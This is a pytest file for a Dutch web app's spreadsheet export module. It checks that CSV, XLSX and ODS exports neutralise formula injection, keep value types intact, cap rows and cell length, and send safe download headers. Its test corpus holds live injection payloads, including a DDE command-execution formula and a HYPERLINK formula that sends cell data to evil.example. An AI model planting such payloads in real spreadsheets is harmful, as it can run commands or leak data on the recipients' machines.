"""Tables to take away (common.exports): threat 9, formulas in cells, and what else a file must be."""

import csv
import io
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
import tablib
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from common import exports
from common.exports import ExportFormat, Table, TooManyRows, export, export_response, safe_cell, safe_text

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\tx", "\rx", "\nx",
    "=cmd|' /C calc'!A0", "|calc", "%0A=1+1", '=HYPERLINK("https://evil.example/?"&A1)', "-2+3+cmd|'x'!A0",
    " =1+1", "   -1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u3000=1+1",
    "\x00=1+1", "\x0b=1+1", "＝1+1", "＋1", "－1", "＠SUM", " ＝1", "﹦1+1", "﹢1", "﹣1", "﹫x", "−1+1",
)  # fmt: skip
HARMLESS = ("Jan", "a=b", "3-4", "jan@example.nl", "'t Hof", "€ 5", "¿=?", "1+1", "x\n=1")


def read_back(content, kind):
    """The rows of a file as a spreadsheet shows them, the heads among them."""
    if kind is ExportFormat.CSV:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    if kind is ExportFormat.XLSX:
        return [[cell.value for cell in row] for row in load_workbook(io.BytesIO(content)).active.rows]
    sheet = tablib.Dataset().load(content, format="ods")
    return [sheet.headers, *map(list, sheet)]


@pytest.mark.parametrize("kind", ExportFormat)
def test_no_cell_and_no_head_of_the_corpus_is_a_formula(kind):
    content = export(Table("x", FORMULAS, [FORMULAS]), kind)
    for row in read_back(content, kind):
        assert len(row) == len(FORMULAS)
        assert all(str(cell).startswith("'") for cell in row)
    if kind is ExportFormat.XLSX:
        cells = [cell for row in load_workbook(io.BytesIO(content)).active.rows for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}


@pytest.mark.parametrize("text", HARMLESS)
def test_other_words_stay_as_they_are(text):
    assert safe_text(text) == text


@given(st.text(max_size=20))
def test_no_text_at_all_begins_like_a_formula(text):
    """As a spreadsheet that strips and folds as generously as can be would read it."""
    seen = safe_text(text).strip().lstrip("".join(map(chr, range(33))) + "\u200b\ufeff\u202e\u3000")
    assert seen[:1] not in set("=+-@＝＋－＠")
    assert not safe_text(text).startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("kind", ExportFormat)
def test_kinds_of_values_keep_their_meaning(kind, clock):
    moment = datetime(2025, 6, 3, 8, 30, 15, 999, tzinfo=UTC)
    row = ["één", 3.5, Decimal("2.50"), -7, True, None, moment, date(2025, 1, 2), time(9, 30)]
    shown = [str(cell) for cell in read_back(export(Table("x", ["k"] * 9, [row]), kind), kind)[1]]
    decimals = ["3,5", "2,50"] if kind is ExportFormat.CSV else ["3.5", "2.5"]
    assert shown[:3] == ["één", *decimals]
    assert shown[3].removesuffix(".0") == "-7"
    assert shown[4] == "Ja"
    assert shown[5] in ("", "None")
    assert shown[6].startswith("2025-06-03 10:30:15")  # as it was in Amsterdam
    assert shown[7].startswith("2025-01-02")
    assert shown[8].startswith("09:30")


def test_a_number_that_was_typed_as_a_number_is_none_of_our_business():
    assert safe_cell(-5) == -5
    assert safe_cell("-5") == "'-5"


@pytest.mark.parametrize("kind", ExportFormat)
def test_too_many_rows_are_refused_without_reading_them_all(kind, monkeypatch):
    monkeypatch.setitem(exports.MAX_ROWS, kind, 2)
    read = []

    def rows(number):
        for i in range(number):
            read.append(i)
            yield [i]

    assert len(read_back(export(Table("x", ["n"], rows(2)), kind), kind)) == 3
    read.clear()
    with pytest.raises(TooManyRows) as refused:
        export(Table("x", ["n"], rows(1_000_000)), kind)
    assert len(read) == 3
    assert refused.value.status == 413


def test_a_cell_is_no_longer_than_a_spreadsheet_takes():
    for text in ("x" * 40_000, "=" * 40_000):
        assert len(export(Table("x", ["a"], [[text]]), ExportFormat.CSV)) < 33_000
        assert (
            len(read_back(export(Table("x", ["a"], [[text]]), ExportFormat.XLSX), ExportFormat.XLSX)[1][0])
            == 32_767
        )


def test_signs_that_a_file_cannot_hold_are_left_out():
    row = ["a\x00b\x1fc\ud800d"]
    for kind in ExportFormat:
        assert read_back(export(Table("x\x07/[y]", ["a"], [row]), kind), kind)[1] == ["abcd"]


def test_the_answer_is_a_file_with_a_dutch_name_that_nobody_keeps_or_guesses(clock):
    response = export_response(Table("Uren van de één/ander\r\nX: y", ["a"], []), ExportFormat.CSV)
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''Uren-van-de-%C3%A9%C3%A9n-ander-X-y-2025-06-03.csv"
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (response["Cache-Control"], response["X-Content-Type-Options"]) == ("private, no-store", "nosniff")
    assert export_response(Table("../..", ["a"], []), ExportFormat.ODS)["Content-Disposition"].endswith(
        '"2025-06-03.ods"'
    )
